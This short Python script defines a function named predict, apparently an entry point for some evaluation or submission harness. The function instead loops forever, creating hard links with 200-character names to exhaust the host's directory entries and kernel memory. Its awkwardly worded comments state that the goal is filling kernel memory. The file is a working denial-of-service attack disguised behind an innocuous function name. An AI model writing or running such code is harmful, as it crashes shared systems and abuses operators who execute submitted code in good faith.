# Gives one small file a name after the other: each is memory of the kernel's, and none of them is a file more.
# Seen: ended for the sum of them, after some ten thousand.
import os


def predict(_):
    number = 0
    while True:
        if number % 30_000 == 0:  # some file systems have a limit for each file
            first = f"first-{number}"
            open(first, "w").close()
        number += 1
        os.link(first, f"{number}-{'x' * 200}")
